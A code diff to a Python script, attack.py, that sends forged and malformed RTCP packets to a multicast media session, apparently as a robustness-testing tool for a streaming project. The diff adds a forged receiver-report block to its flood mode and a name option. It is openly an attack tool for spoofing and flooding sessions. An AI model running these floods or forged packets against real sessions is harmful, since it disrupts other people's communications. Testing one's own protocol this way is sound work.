@@ -2,10 +2,10 @@
 # SPDX-License-Identifier: LGPL-2.1-or-later
 """Sends forged and broken packets to a session, in one of several ways; prints how many.
 
-    attack.py report  GROUP PORT --ssrc S [--rate R] [--count N] [--leaving]
+    attack.py report  GROUP PORT --ssrc S [--rate R] [--count N] [--leaving] [--name N]
     attack.py bye     GROUP PORT --ssrc S [--count N]
     attack.py broken  GROUP PORT --ssrc S
-    attack.py flood   GROUP PORT --count N
+    attack.py flood   GROUP PORT --count N [--media S]
     attack.py garbage GROUP PORT
 
 PORT is that of RTP; RTCP goes to PORT + 1, garbage to both.
@@ -28,6 +28,11 @@ def packet(kind, count, body):
 
 def rr(ssrc):
     return packet(RR, 0, struct.pack(">I", ssrc))
+
+
+def rr_about(ssrc, media):
+    """An RR with a block about @media without loss: its sender has heard it."""
+    return packet(RR, 1, struct.pack(">IIIIIII", ssrc, media, 0, 1, 0, 0, 0))
 
 
 def sdes(ssrc, name=b"forged-0123456789"):
@@ -71,7 +76,7 @@ class Target:
 def send_reports(target, args):
     flags = 0x01 | (0x20 if args.leaving else 0)
     for i in range(args.count):
-        app = report(args.ssrc, args.number + i, args.rate, flags)
+        app = report(args.ssrc, args.number + i, args.rate, flags, args.name.encode())
         target.rtcp(compound(args.ssrc, app))
         time.sleep(0.1)
 
@@ -108,7 +113,8 @@ def send_flood(target, args):
     for i in range(args.count):
         ssrc = 0x10000000 + i
         for number in (1, 2):
-            target.rtcp(compound(ssrc, report(ssrc, number, 8_000_000)))
+            head = rr_about(ssrc, args.media) + sdes(ssrc)
+            target.rtcp(head + report(ssrc, number, 8_000_000))
         if i % 10 == 9:
             time.sleep(0.005)
 
@@ -141,9 +147,11 @@ def main():
     parser.add_argument("group")
     parser.add_argument("port", type=int)
     parser.add_argument("--ssrc", type=int, default=0x0BADF00D)
+    parser.add_argument("--media", type=int, default=0)
     parser.add_argument("--rate", type=int, default=20000)
     parser.add_argument("--number", type=int, default=1 << 20)
     parser.add_argument("--count", type=int, default=20)
+    parser.add_argument("--name", default="ASMP")
     parser.add_argument("--leaving", action="store_true")
     parser.add_argument("--seed", type=int, default=1)
     args = parser.parse_args()
